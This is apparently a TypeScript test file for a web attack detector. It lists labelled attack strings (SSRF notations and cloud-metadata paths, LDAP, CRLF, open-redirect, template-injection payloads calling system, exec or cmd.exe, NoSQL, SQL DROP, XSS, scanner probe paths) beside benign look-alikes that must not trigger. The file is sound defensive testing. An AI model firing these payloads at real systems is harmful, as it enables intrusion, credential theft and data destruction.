/**
 * The smaller attack classes written from the language of each attack (docs/detection.md): SSRF
 * notations, LDAP filter break-outs, CRLF reaching headers, open-redirect tricks, template
 * expressions of each engine, NoSQL, SQL fragments, XSS forms and exposed-file probes. Each class
 * has benign look-alikes that must stay quiet. Where: `q` a query value (`/search?q=`), `next` a
 * redirect parameter on a login page, `form` a form field, `path` a whole request target.
 */
import { AttackDetector } from '../../../node/analysis/attacks';
import type { AttackClass } from '../../../node/records/types';
import { RELAXED, type Where, namedExamples } from './helpers';

const detector = new AttackDetector(RELAXED);
const ATTACKS: Array<[string, AttackClass, Where, string]> = [
  // SSRF: an internal address in every notation, metadata paths, parser confusion, other servers in the path.
  ['loopback as one decimal number', 'ssrf', 'q', '2130706433'],
  ['metadata address as one decimal number in a URL', 'ssrf', 'q', 'http://2852039166/'],
  ['loopback as eight bare hex digits', 'ssrf', 'q', '7F000001'],
  ['loopback as 0x hex', 'ssrf', 'q', '0x7f000001'],
  ['loopback as one octal number', 'ssrf', 'q', '017700000001'],
  ['a name that resolves to loopback, bare', 'ssrf', 'q', 'test.localtest.me'],
  ['a rebinding name, bare', 'ssrf', 'q', 'a.34.192.228.43.1time.127.0.0.1.99times.repeat.rebind.network'],
  ['decimal host after a scheme without slashes', 'ssrf', 'q', 'http:2852039166'],
  ['IPv4-mapped metadata after a scheme without slashes', 'ssrf', 'q', 'http:[::ffff:a9fe:a9fe]'],
  ['host spelled with backslashes between letters', 'ssrf', 'q', 'http://\\g\\o\\o\\g\\l\\e.\\c\\o\\m/'],
  ['a scheme wrapping a URL', 'ssrf', 'q', 'jar:http://attacker.example/x.jar!/'],
  ['an inside address spelled with dashes in a wildcard-DNS name', 'ssrf', 'q', 'http://192-168-1-1.sslip.example/admin'],
  ['fragment before the @', 'ssrf', 'q', 'http://evil.example#@127.0.0.1/'],
  ['backslash before the @', 'ssrf', 'q', 'http://127.0.0.1:80\\@evil.example/'],
  ['metadata path on a rebinding host', 'ssrf', 'q', 'http://rebind.attacker.example/latest/meta-data/iam/'],
  ['metadata path asked of the site (a forwarding proxy)', 'ssrf', 'path', '/latest/meta-data/iam/security-credentials/'],
  ['GCP metadata path asked of the site', 'ssrf', 'path', '/computeMetadata/v1/instance/service-accounts/default/token'],
  ['UNC path (NTLM to another server)', 'ssrf', 'path', '/%5C%5Cattacker.example/share/x'],
  ['Apache proxy to a Unix socket with a URL', 'ssrf', 'path', '/?unix:' + 'A'.repeat(20) + '|http://attacker.example/'],
  // LDAP: a wildcard that closes what the value did not open; a filter-metacharacter probe.
  ['wildcard closing the assertion', 'ldapi', 'q', 'admin*)'],
  ['wildcard, close, wildcard', 'ldapi', 'q', '*)*'],
  ['metacharacter probe', 'ldapi', 'q', "*()|&'"],
  // CRLF reaching a header: Unicode characters with a CR/LF low byte, line separators, escaped breaks.
  ['U+010D U+010A before a header (Latin-1 writers)', 'crlf', 'q', 'x\u010d\u010aSet-Cookie: a=1'],
  ['U+2028 before a header', 'crlf', 'q', 'x\u2028Set-Cookie: a=1'],
  ['escaped \\r\\n before a header', 'crlf', 'q', 'x\\r\\nSet-Cookie: a=1'],
  ['header name with stray CRs before its colon', 'crlf', 'q', '\r\nRemote-addr\r\r\r: foo.example'],
  // Open redirect: the trick one hop later, through the site's own redirector.
  ['nested scheme-relative target', 'redir', 'next', '/login?to=//evil.example'],
  ['nested backslash target', 'redir', 'next', '/out?/\\evil.example'],
  ['nested target in a query of its own', 'redir', 'next', '?url=///evil.example'],
  // Template expressions, engine by engine.
  ['Jinja2 block on a constant condition', 'ssti', 'q', '{% if True %}49{% endif %}'],
  ['Mako/ERB block on a constant condition', 'ssti', 'q', '<% if True %>49<% endif %>'],
  ['Spring EL type reference to any Java class', 'ssti', 'q', "#{T(java.net.InetAddress).getByName('x.example')}"],
  ['Twig filter calling a PHP function', 'ssti', 'q', "{{['id']|filter('system')}}"],
  ['Twig _self.env', 'ssti', 'q', '{{_self.env.registerUndefinedFilterCallback("exec")}}'],
  ['FreeMarker square-bracket syntax', 'ssti', 'q', '[#assign ex = "freemarker.template.utility.Execute"?new()]${ex("id")}'],
  ['Velocity class walk', 'ssti', 'q', "#set($x='')$x.class.forName('java.lang.Runtime')"],
  ['Smarty version variable', 'ssti', 'q', '{$smarty.version}'],
  ['Smarty if calling a function', 'ssti', 'q', '{if phpinfo()}{/if}'],
  ['Handlebars with-as block', 'ssti', 'q', '{{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}'],
  ['ERB reading a file', 'ssti', 'q', "<%= File.open('/etc/passwd').read %>"],
  ['Java EL implicit object', 'ssti', 'q', '${pageContext.request.serverName}'],
  ['Razor calling .NET', 'ssti', 'q', '@System.Diagnostics.Process.Start("cmd.exe")'],
  ['Django context dump', 'ssti', 'q', '{% debug %}'],
  ['Jelly evaluate', 'ssti', 'q', '<g:evaluate>gs.addErrorMessage(1337*1337);</g:evaluate>'],
  // NoSQL: $where functions and JavaScript truths.
  ['a $where function returning this', 'nosqli', 'form', 'function(){ return this.userid}'],
  ['break-out returning this', 'nosqli', 'form', "t'; return this; var d='!"],
  ['JavaScript loose truth', 'nosqli', 'form', '|| 1==1'],
  ['$comment operator after a break-out', 'nosqli', 'form', "' } ], $comment:'injected'"],
  // SQL fragments of paranoia levels 2-4 that are still attacks.
  ['PostgreSQL JSON operator after OR', 'sqli', 'form', 'OR \'{"b":2}\'::jsonb <@ \'{"a":1, "b":2}\'::jsonb'],
  ['json_extract after OR', 'sqli', 'form', "OR json_extract('{\"id\": 14}', '$.name') = 'Aztalan'"],
  ['error-raising cast of a call', 'sqli', 'q', "overlay(password placing '' from 1 for 0)::int"],
  ['column alias closing the expression', 'sqli', 'form', ') AS Role FROM'],
  ['Oracle dynamic SQL', 'sqli', 'form', 'EXECUTE IMMEDIATE "'],
  ['stacked session variable', 'sqli', 'form', ';SET @OLD_SQL_MODE'],
  ['DROP then comment', 'sqli', 'q', 'DROP sampletable;--'],
  ['ALTER TABLE', 'sqli', 'form', 'ALTER TABLE `mass_mails` CHANGE `receivers`'],
  // XSS forms: comments between tokens, tagged templates through .call, CSS, UTF-7.
  ['global property named through comments', 'xss', 'form', 'self /*a*/ [ /*b*/ "alert"]("xss")'],
  ['tagged template through .call', 'xss', 'q', '[].sort.call`${alert}1337`'],
  ['CSS url(javascript:', 'xss', 'q', 'x=x:url(javascript:alert(1))'],
  ['-moz-binding', 'xss', 'q', '-moz-binding:url(http://example.com/xss.xml#xss)'],
  ['UTF-7 script tag', 'xss', 'q', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  // Exposed files and listings, by the shape of the path.
  ['listing a CMS plugin directory', 'scanner', 'path', '/wp-content/plugins/elementor/'],
  ['a plugin readme (its version)', 'scanner', 'path', '/wp-content/plugins/some-plugin/readme.txt'],
  ['data export inside the CMS tree', 'scanner', 'path', '/wp-content/plugins/chat/sac-export.csv'],
  ['a script inside an upload folder', 'scanner', 'path', '/wp-content/uploads/shell.php'],
  ['double extension', 'scanner', 'path', '/files/avatar.php.png'],
  ['installer left behind', 'scanner', 'path', '/roundcube/installer/index.php'],
  ['private key', 'scanner', 'path', '/self.key'],
  ['device configuration export', 'scanner', 'path', '/cgi-bin/exportCfgwithpasswd'],
];

const BENIGN: Array<[string, Where, string]> = [
  ['a ten-digit id', 'q', '1234567890'],
  ['a 31-bit session number inside 127.0.0.0/8', 'q', '2140813768'],
  ['a zero-padded order number', 'q', '01234567012'],
  ['a hash of eight hex digits', 'q', 'deadbeef'],
  ['a Windows error code', 'q', '0x80070005'],
  ['a hostname word', 'q', 'localhost'],
  ['a version', 'q', 'v1.2.3'],
  ['a URL with user info', 'q', 'http://user@b.example/'],
  ['a public URL', 'q', 'https://example.com/a'],
  ['a cloud host name spelling its public address', 'q', 'https://ec2-54-1-2-3.compute-1.amazonaws.com/'],
  ['a public address in hex after a scheme without slashes', 'q', 'http:0xABCDEF'],
  ['a news path', 'path', '/latest/news/today'],
  ['a parenthesised wildcard in prose', 'q', 'see (note *)'],
  ['arithmetic', 'form', 'a*(b+c)'],
  ['Chinese text whose characters have a LF low byte', 'q', '\u4e0a\u6d77 shanghai'],
  ['a Windows path', 'q', 'C:\\new\\folder'],
  ['a login flow nesting a partner URL', 'next', '/oauth/authorize?client_id=1&redirect_uri=https://partner.example/cb'],
  ['a local next page with a query', 'next', '/account?tab=2'],
  ['a template greeting', 'q', 'Hello {{name}}'],
  ['a template condition on a variable', 'form', '{% if user %}Hi{% endif %}'],
  ['a template import of a file', 'form', '{% import "macros.html" as m %}'],
  ['a template variable ending in config', 'form', '{{ my_config.title }}'],
  ['a price placeholder', 'q', 'cost is ${price}'],
  ['JavaScript assigning a function', 'form', 'var f = function() { return true; }'],
  ['JSON Schema $comment', 'form', '{"$comment":"schema"}'],
  ['prose with "executed immediately"', 'q', 'We executed immediately'],
  ['prose with drop and a semicolon', 'q', 'drop me a line; thanks'],
  ['a CSS background', 'q', 'background: url(/img/a.png)'],
  ['a comment then a word', 'q', '/* comment */ hello'],
  ['a media-library download', 'path', '/wp-content/uploads/2023/05/brochure.zip'],
  ['a theme stylesheet', 'path', '/wp-content/themes/x/style.css'],
  ['a router page in cgi-bin', 'path', '/cgi-bin/luci'],
  ['a device configuration page (a script)', 'path', '/cgi-bin/config.cgi'],
  ['an API path about keys', 'path', '/api/keys'],
];

namedExamples(detector, ATTACKS, BENIGN);
